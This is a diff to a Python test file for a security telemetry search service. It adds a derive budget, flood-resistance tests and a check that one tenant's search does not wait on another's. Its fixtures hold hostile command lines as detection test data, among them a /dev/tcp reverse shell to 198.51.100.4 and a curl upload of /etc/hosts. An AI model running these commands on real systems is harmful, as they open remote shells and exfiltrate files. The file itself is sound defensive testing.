@@ -6,6 +6,7 @@ from __future__ import annotations
 import contextlib
 import json
 import random
+import threading
 import time
 from collections.abc import Iterator
 from dataclasses import dataclass, field
@@ -19,7 +20,7 @@ from otlp_receiver.exporters.clickhouse.config import Config
 from otlp_receiver.exporters.clickhouse.exporter import ClickHouseExporter
 from otlp_receiver.query import cli
 from otlp_receiver.query.render import triage_list
-from otlp_receiver.query.search import BehaviourSearch, Pattern, understand
+from otlp_receiver.query.search import MAX_DERIVED_PER_SEARCH, BehaviourSearch, Pattern, understand
 from otlp_receiver.query.service import MAX_LISTED_COMMAND, MAX_QUERY_CHARS, Filter, QueryService
 from testing import run_command
 from testing.otlp_values import key_values
@@ -207,7 +208,7 @@ def test_a_query_of_a_thousand_words_ranks_many_patterns_in_a_fraction_of_a_seco
     search.rank("warm the features", patterns, 20)
     query = " ".join(rng.sample(vocabulary, 1000))[:MAX_QUERY_CHARS]
     started = time.process_time()
-    matches = search.rank(query, patterns, 20)
+    matches = search.rank(query, patterns, 20).matches
     assert time.process_time() - started < 0.4
     assert len(matches) == 20 and all(match.words for match in matches)
 
@@ -262,11 +263,12 @@ def test_an_indicator_is_a_whole_word_hyphenated_words_included() -> None:
     routine = [Pattern(record_id=f"1:{i}", workload="w", host="h", command_line=line, score=0.5)
                for i, line in enumerate(("git rev-parse HEAD", "sysctl -w vm.swappiness=10"))]
     reversed_ = Pattern(record_id="1:9", workload="w", host="h", command_line="rev /tmp/.p", score=0.5)
-    assert [m.pattern.record_id for m in BehaviourSearch().rank("decode", [*routine, reversed_], 10)] == ["1:9"]
-    assert not BehaviourSearch().rank("who am i", routine, 10)
+    assert [m.pattern.record_id for m in BehaviourSearch().rank("decode", [*routine, reversed_], 10).matches] == ["1:9"]
+    assert not BehaviourSearch().rank("who am i", routine, 10).matches
     # A name stays a name inside a hyphenated word: clamav (security software) in clamav-daemon.
     checked = Pattern(record_id="1:7", workload="w", host="h", command_line="systemctl status clamav-daemon", score=0.5)
-    assert [m.pattern.record_id for m in BehaviourSearch().rank("find security software", [checked], 10)] == ["1:7"]
+    ranked = BehaviourSearch().rank("find security software", [checked], 10).matches
+    assert [m.pattern.record_id for m in ranked] == ["1:7"]
 
 
 def test_a_query_naming_a_tactic_means_every_technique_of_it() -> None:
@@ -281,7 +283,7 @@ def test_the_programs_a_reason_names_about_the_session_do_not_match_a_query() ->
     quiet = Pattern(record_id="1:1", workload="w", host="h", command_line="id", score=0.9,
                     reasons=("follows 2 other sensitive commands in this session within 10 min (insmod, nmap)",))
     scan = Pattern(record_id="1:2", workload="w", host="h", command_line="nmap -sS 10.0.0.0/24", score=0.3)
-    assert [m.pattern.record_id for m in BehaviourSearch().rank("nmap", [quiet, scan], 10)] == ["1:2"]
+    assert [m.pattern.record_id for m in BehaviourSearch().rank("nmap", [quiet, scan], 10).matches] == ["1:2"]
 
 
 def test_search_finds_what_the_evidence_names_and_what_the_command_shows(service: QueryService) -> None:
@@ -495,7 +497,7 @@ def test_a_downloader_sending_data_is_not_shown_as_a_download() -> None:
                    score=0.5)
     upload = Pattern(record_id="1:3", workload="w", host="h", command_line="curl -d @/etc/hosts http://203.0.113.9",
                      score=0.5)
-    ranked = BehaviourSearch().rank("ingress tool transfer", [post, upload, fetch], 10)
+    ranked = BehaviourSearch().rank("ingress tool transfer", [post, upload, fetch], 10).matches
     assert ranked[0].pattern.record_id == "1:1", ranked
     assert all("T1105" not in m.techniques for m in ranked[1:]), ranked
 
@@ -528,3 +530,75 @@ def test_a_stored_command_line_of_megabytes_is_listed_and_searched_by_its_start(
         record = next(r["record_id"] for r in listed if r["command_line"].startswith("sh -c x"))
         raw = query.event("team-e", record)["event"]["raw"]["attributes"]
         assert len(dict(raw)["process.command_line"]) == len(huge.command)
+
+
+# -- a flood of distinct command lines --------------------------------------------------------------------
+
+
+def flood(count: int, start: int = 0) -> list[Stored]:
+    """Distinct routine command lines, as a red team sent 180,000 of (`echo 0-1`, `echo 0-2`, ...)."""
+    return [Stored(f"echo 0-{i}", 0.3, pid=2000 + i % 20_000, ancestors=["bash"], ago=10 + i * 1e-4)
+            for i in range(start, start + count)]
+
+
+def test_a_search_derives_at_most_its_budget_of_new_patterns_the_most_suspicious_first() -> None:
+    """Every search derived every uncached pattern (1-2 ms each): 216-240 CPU-s per search over 180,000 of them.
+    Now a search derives at most its budget, the highest-scored first, says what it left out, and the next
+    search goes on from there."""
+    lines = [Pattern(record_id=f"1:{i}", workload="w", host="h", command_line=f"echo 0-{i}", score=0.3)
+             for i in range(3000)]
+    shell = Pattern(record_id="1:shell", workload="w", host="h", command_line="bash -i >& /dev/tcp/198.51.100.4/9 0>&1",
+                    score=0.9)
+    search = BehaviourSearch(derive_budget=1000)
+    first = search.rank("reverse shell", [*lines, shell], 5)
+    assert (first.ranked, first.left_out, first.complete) == (1000, 2001, False)
+    assert [m.pattern.record_id for m in first.matches] == ["1:shell"]  # the alert is among the first derived
+    second = search.rank("echo", [*lines, shell], 5)
+    assert (second.ranked, second.left_out) == (2000, 1001)
+    assert search.rank("echo", [*lines, shell], 5).ranked == 3000
+    assert search.rank("echo", [*lines, shell], 5).complete
+
+
+def test_a_search_over_a_flood_of_distinct_command_lines_costs_a_bounded_time(tmp_path: Path) -> None:
+    """Stored: twice the budget of distinct lines. The first search derives only its budget; its CPU time stays
+    within a few times what the same search costs once every pattern is cached (reading, ranking), where it
+    was a millisecond or more per pattern."""
+    count = 2 * MAX_DERIVED_PER_SEARCH  # with the reverse shell
+    path = exported(tmp_path / "clickhouse", stored_batch("1", "team-f", [SINGLES[0], *flood(count - 1)]))
+    with query_service(path) as query:
+        started = time.process_time()
+        first = query.search_answer("team-f", "reverse shell", limit=5)
+        first_cpu = time.process_time() - started
+        assert first["results"][0]["command_line"] == SINGLES[0].command
+        assert first["incomplete"] == {"ranked": MAX_DERIVED_PER_SEARCH, "left_out": count - MAX_DERIVED_PER_SEARCH,
+                                       "unembedded": 0}
+        assert query.search_answer("team-f", "reverse shell", limit=5)["incomplete"] is None
+        started = time.process_time()
+        assert query.search_answer("team-f", "reverse shell", limit=5)["incomplete"] is None
+        cached_cpu = time.process_time() - started
+        # Deriving all 20,000 cost 27 s here before; now the budget's 10,000 at about 0.16 ms each.
+        assert first_cpu < cached_cpu + 4.0, (first_cpu, cached_cpu)
+
+
+def test_one_tenants_search_does_not_wait_for_anothers(tmp_path: Path) -> None:
+    """All searches shared one lock held for the whole ranking: a tenant's search sent 2 s after a flooded
+    tenant's waited minutes for it."""
+    path = exported(tmp_path / "clickhouse", stored_batch("1", "team-f", flood(MAX_DERIVED_PER_SEARCH)),
+                    stored_batch("2", "team-g", [SINGLES[0]]))
+    with query_service(path) as query:
+        query.search("team-g", "reverse shell")  # the small tenant's patterns are cached: its search is quick
+        finished: dict[str, float] = {}
+
+        def flooded() -> None:
+            query.search("team-f", "reverse shell")
+            finished["team-f"] = time.monotonic()
+
+        worker = threading.Thread(target=flooded)
+        worker.start()
+        try:
+            time.sleep(0.5)  # the flooded tenant's search is ranking (reading its patterns takes a fraction of this)
+            assert query.search("team-g", "reverse shell")[0]["command_line"] == SINGLES[0].command
+            answered = time.monotonic()
+        finally:
+            worker.join()
+        assert answered < finished["team-f"], "the small tenant's search waited for the flooded tenant's"
